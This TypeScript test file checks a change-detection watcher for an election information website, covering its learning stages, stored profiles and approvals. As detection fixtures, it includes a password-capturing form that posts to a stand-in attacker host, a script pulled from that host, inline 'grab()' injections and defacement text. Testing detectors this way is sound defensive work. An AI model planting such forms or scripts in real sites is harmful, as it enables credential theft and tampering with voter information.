import assert from 'node:assert/strict'
import { test } from 'node:test'
import {
  HOURS,
  PAPERS,
  pageOf,
  type Parts,
  Site,
  START,
  told,
} from '../../../../test/support/watched-page.ts'
import { readForWatch } from '../../../lib/html/index.ts'
import {
  approve,
  forgetOld,
  MAX_PROFILE_BYTES,
  openPlace,
  readProfile,
  stageOf,
  writeProfile,
} from './index.ts'

const HOUR = 3_600_000
const letter = (n: number) =>
  String.fromCharCode(97 + (n % 26), 97 + (Math.floor(n / 26) % 26), 97 + (n % 17))
/** A page with a part that depends on the visit. */
const moving = (part: (n: number, atMs: number) => Parts) =>
  new Site((n, at) => pageOf(part(n, at)))
const loaded = (site: Site) => {
  const profile = readProfile(site.stored ?? new Uint8Array())
  assert.ok(!('damage' in profile))
  return profile
}

test('a page is learned for twenty fetches before it is judged, and for a day before it is known', () => {
  const site = new Site()
  assert.equal(site.look().stage, 'learning')
  for (let n = 0; n < 19; n += 1) site.look(null, 60_000)
  assert.equal(site.look().stage, 'provisional')
  for (let n = 0; n < 92; n += 1) assert.equal(site.look().stage, 'provisional')
  for (let n = 0; n < 4; n += 1) site.look()
  assert.equal(site.look().stage, 'full')
})

test('looks less than a minute apart are judged and not learned', () => {
  const site = new Site()
  for (let n = 0; n < 40; n += 1) site.look(null, 20_000)
  assert.equal(loaded(site).fetches, 14)
})

test('phrases, foreign forms and passages are judged from the first visit', () => {
  const site = new Site()
  const form = '<form action="//evil.example"><input type=password></form>'
  const first = site.look(pageOf({ main: `<p>Hacked by x</p>${form}` }), 0, {
    passages: ['Never here'],
  })
  assert.deepEqual(told(first.items), [
    'C phrase phrase',
    'C passage passage_gone',
    'C form foreign_form',
  ])
  assert.deepEqual(first.notTested, ['learning'])
  for (let n = 0; n < 20; n += 1) site.look(pageOf({ main: `<p>Hacked by x</p>${form}` }))
  const later = site.look(pageOf({ main: `<p>Hacked by x</p>${form}` }))
  assert.deepEqual(told(later.items), ['C phrase phrase', 'C form foreign_form'])
  const asked = new Site().look(
    pageOf({ main: '<form action="//lists.example"><input name=mail></form>' }),
  )
  assert.deepEqual(told(asked.items), ['M form foreign_form'])
})

test('before learning ends other text is a note, a fact of the vote is not', () => {
  const site = new Site().provisional()
  const other = site.look(pageOf({ top: '<p>A new brochure.</p>' }), 0)
  assert.deepEqual([told(other.items), told(other.notes)], [[], ['note text added']])
  assert.deepEqual(told(site.look(pageOf().replace('20:00', '16:00'), 20_000).items), [
    'H text facts',
  ])
})

test('what moves by itself is known: counters, clocks, countdowns, banners, headlines, tokens', () => {
  const day = new Intl.DateTimeFormat('en', { dateStyle: 'full', timeZone: 'UTC' })
  const rows: Record<string, (n: number, atMs: number) => Parts> = {
    counter: (n) => ({ main: `<p>${n * 7} visitors today</p>` }),
    clock: (_, at) => ({ main: `<p>Voting news of today, ${day.format(at)}</p>` }),
    countdown: (_, at) => ({
      main: `<p>${Math.ceil((Date.UTC(2026, 11, 13) - at) / 86_400_000)} days until you vote</p>`,
    }),
    banners: (n) => ({ main: `<div><p>Banner ${letter(n % 5)}</p></div>` }),
    headlines: (n) => ({
      main: `<ul>${[0, 1, 2, 3].map((k) => `<li>News about ${letter(Math.floor(n / 4) + k)}`).join('')}</ul>`,
    }),
    pattern: (n) => ({
      main: `<ul>${[0, 1, 2].map((k) => `<li>${'abc'[(n + k) % 3]} wins ${(n + k) * 31} votes`).join('')}</ul>`,
    }),
    token: (n) => ({ main: `<p>Request ${(n * 7919).toString(16)}a1b2c3${n}f0</p>` }),
    nonce: (n) => ({
      head: `<script nonce=${n}>start({token: "${letter(n)}${n}", at: ${n}})</script>`,
    }),
    adverts: (n) => ({ head: `<script src="//cdn${n % 7}.ads.example/t/${n}.js"></script>` }),
    versions: (n) =>
      n % 3 ? {} : { top: '<p>Make a plan to vote.</p>', head: '<script>b()</script>' },
    updated: (_, at) => ({ end: `<p>Last updated: ${day.format(at - 30 * HOUR)}</p>` }),
    minutes: (n) => ({ main: `<p>Posted ${n % 50} minutes ago</p>` }),
  }
  for (const [name, part] of Object.entries(rows)) {
    const site = moving(part).learned()
    for (let n = 0; n < 24; n += 1)
      assert.deepEqual(told(site.look(null, 3 * HOUR).items), [], name)
  }
})

test('an hour in a table of hours is no counter, and the day of the vote is no countdown', () => {
  const table = ['07:00', '08:00', '09:00', '10:00'].map(
    (time) => `<tr><td>Voting in ${letter(Number(time[1]))}<td>${time}`,
  )
  const site = moving(() => ({ main: `<table>${table.join('')}</table>` })).learned()
  const other = pageOf({ main: `<table>${table.join('').replace('09:00', '09:30')}</table>` })
  assert.notDeepEqual(told(site.look(other).items), [])
  assert.deepEqual(
    told(
      site.look(
        pageOf({ main: `<table>${table.join('')}</table>` }).replace('13 December', '14 December'),
      ).items,
    ),
    ['H text facts'],
  )
})

test('in a place that moves danger is a question to a person, unless it was always there', () => {
  const news = (n: number, more = '') =>
    `<ul>${more}${[0, 1, 2].map((k) => `<li>News about ${letter(Math.floor(n / 3) + k)}`).join('')}</ul>`
  const site = moving((n) => ({ main: news(n) })).learned()
  const one = site.look(pageOf({ main: news(1, '<li>The election is cancelled') }))
  assert.deepEqual(told(one.items), ['M text danger_open'])
  const usual = moving((n) => ({
    main: news(n, `<li>Voting closed in ${letter(Math.floor(n / 3))}`),
  })).learned()
  assert.deepEqual(told(usual.look(pageOf({ main: news(1, '<li>Voting closed in zz') })).items), [])
})

test('what says when to vote is missed in a list that moves, where something else stands in its place', () => {
  const list = (n: number, hours: string) =>
    `<ul><li>Voting: ${hours}<li>Bring a card${[0, 1, 2].map((k) => `<li>About ${letter(n + k)}`).join('')}</ul>`
  const site = moving((n) => ({ main: list(Math.floor(n / 3), '07:00 to 20:00') })).learned()
  assert.deepEqual(told(site.look(pageOf({ main: list(1, '07:00 to 20:00') })).items), [])
  assert.deepEqual(told(site.look(pageOf({ main: list(2, '07:00 to 15:00') })).items), [
    'H text facts',
  ])
})

test('a short page that stands in now and then is known; the first of its kind after learning is not', () => {
  const full =
    '<title>Please wait</title><p>You are in line.</p><script>setTimeout(again, 9)</script>'
  const site = new Site((n) => (n % 9 === 5 ? full : pageOf())).learned()
  assert.deepEqual(told(site.look(full, HOUR, { passages: [HOURS] }).items), [])
  assert.deepEqual(told(new Site().learned().look(full).items)[0], 'C page replaced')
})

test('a page drawn by script is said to be, and what it lacks is not told; its code is still judged', () => {
  const shell = (more = '') =>
    `<title>Vote</title><script src="/a.js"></script><div id=root></div>${more}`
  const site = new Site(() => shell()).learned()
  const looked = site.look(shell('<script src="//evil.example/x.js"></script>'))
  assert.deepEqual([looked.notTested, told(looked.items)], [['drawn'], ['H script new_host']])
  assert.deepEqual(
    told(site.look('<title>Vote</title><p>Gone fishing</p>').items).includes('C page replaced'),
    true,
  )
})

test('a finding is never learned, however long it stays', () => {
  const site = new Site().learned()
  const changed = pageOf({ head: '<script>grab()</script>', top: '<p>New words.</p>' }).replace(
    '20:00',
    '16:00',
  )
  for (let n = 0; n < 100; n += 1)
    assert.deepEqual(told(site.look(changed, HOUR).items), [
      'H inline new_script',
      'H text facts',
      'M text added',
    ])
  for (let n = 0; n < 50; n += 1) site.look('<p>Freedom</p>', HOUR)
  assert.deepEqual(told(site.look('<p>Freedom</p>').items), ['C page replaced'])
  assert.deepEqual(told(site.look(pageOf()).items), [])
})

test('approving takes in item by item, and no more', () => {
  const site = new Site().learned()
  const html = pageOf({ head: '<script>f()</script>', top: '<p>New words.</p>' }).replace(
    '20:00',
    '21:00',
  )
  const { items, reading } = site.look(html)
  const profile = loaded(site)
  const chosen = items.filter(({ why: { code } }) => code !== 'new_script')
  site.stored = writeProfile(approve(profile, reading, site.atMs, chosen))
  assert.deepEqual(told(site.look(html).items), ['H inline new_script'])
  assert.deepEqual(told(site.look(html.replace('21:00', '16:00')).items), [
    'H inline new_script',
    'H text facts',
  ])
  assert.deepEqual(told(site.look(html.replace('<p>New words.</p>', '')).items), [
    'H inline new_script',
    'M text gone',
  ])
})

test('a page that was replaced and approved is learned anew; a place that was opened moves', () => {
  const site = new Site().learned()
  const { items, reading } = site.look('<title>New</title><p>A new site.')
  const fresh = approve(loaded(site), reading, site.atMs, items)
  assert.deepEqual([stageOf(fresh), fresh.fetches], ['learning', 1])
  const other = new Site().learned()
  const profile = loaded(other)
  openPlace(profile, '>main#content>section#about>p')
  other.stored = writeProfile(profile)
  assert.deepEqual(told(other.look(pageOf().replace(PAPERS, 'Something else')).items), [])
})

test('alternatives that nobody saw for thirty days are forgotten', () => {
  const site = moving((n) => ({ main: `<div><p>Banner ${letter(n % 5)}</p></div>` })).learned()
  const profile = loaded(site)
  const before = profile.shapes.size
  forgetOld(profile, site.atMs + 29 * 86_400_000)
  assert.equal(profile.shapes.size, before)
  assert.ok(before > 10)
  forgetOld(profile, site.atMs + 31 * 86_400_000)
  assert.equal(profile.shapes.size, 0)
})

test('a page that is read once a day forgets alternatives after thirty days, too', () => {
  const site = new Site((n) =>
    pageOf({ main: n < 40 ? `<div><p>Banner ${letter(n % 5)}</p></div>` : '' }),
  ).learned()
  for (let n = 0; n < 20; n += 1) site.look()
  const before = loaded(site).shapes.size
  for (let day = 0; day < 29; day += 1) site.look(null, 86_400_000)
  assert.equal(loaded(site).shapes.size, before)
  for (let day = 0; day < 3; day += 1) site.look(null, 86_400_000)
  assert.ok(loaded(site).shapes.size < before)
})

test('a damaged or older profile is said to be, and the page is learned again', () => {
  const site = new Site().learned()
  const good = Buffer.from(site.stored ?? '')
  const older = Buffer.from(good)
  older[3] = 0
  const cases: [Uint8Array, string][] = [
    [good.subarray(0, 40), 'damaged'],
    [Buffer.from('nonsense'), 'damaged'],
    [Buffer.alloc(0), 'damaged'],
    [Buffer.concat([good.subarray(0, 60), Buffer.from('x'), good.subarray(61)]), 'damaged'],
    [older, 'older'],
  ]
  for (const [stored, damage] of cases) {
    site.stored = stored
    const looked = site.look()
    assert.deepEqual(
      [looked.damage, looked.stage, looked.notTested],
      [damage, 'learning', ['learning']],
    )
    assert.equal(site.look().damage, null)
  }
})

test('a profile is read as it was written, and never larger than it may be', () => {
  const site = moving((n) => ({
    main: `<ul>${[0, 1, 2].map((k) => `<li>About ${letter(n + k)}`).join('')}</ul>`,
  })).learned()
  const profile = loaded(site)
  assert.deepEqual(readProfile(writeProfile(profile)), profile)
  const words = (n: number) =>
    `${letter(n)}${letter(n * 7)} ${letter(n * 31)} ${letter(n * 17)} ${(n * 2654435761).toString(36)}`
  const large = Array.from(
    { length: 7_000 },
    (_, n) => `<p>${`${words(n)} `.repeat(9)}</p><a href="/${n}/${letter(n)}x">${words(n)}</a>`,
  )
  const huge = new Site(() => pageOf({ main: large.join('') }))
  huge.look()
  const bytes = huge.stored?.length ?? 0
  assert.ok(bytes > 100_000 && bytes <= MAX_PROFILE_BYTES, `${bytes}`)
})

test('on a page that is too much to watch other text is a note; code and facts of the vote are told', () => {
  const site = new Site().learned()
  const profile = loaded(site)
  profile.isTooMuch = true
  site.stored = writeProfile(profile)
  const html = pageOf({ head: '<script>grab()</script>', top: '<p>New words.</p>' })
  const looked = site.look(html.replace('20:00', '16:00'))
  assert.deepEqual(looked.notTested, ['too_much'])
  assert.deepEqual(told(looked.items), ['H inline new_script', 'H text facts'])
})

test('a page that is suddenly too much to watch is told of', () => {
  const site = new Site().learned()
  const looked = site.look(pageOf({ end: '<i></i>'.repeat(210_000) }))
  assert.ok(told(looked.items).includes('H limit too_much'))
  const reading = readForWatch(pageOf(), {
    url: 'https://www.vote.example/',
    atMs: START,
    languages: [],
  })
  assert.deepEqual(reading.limits, [])
})
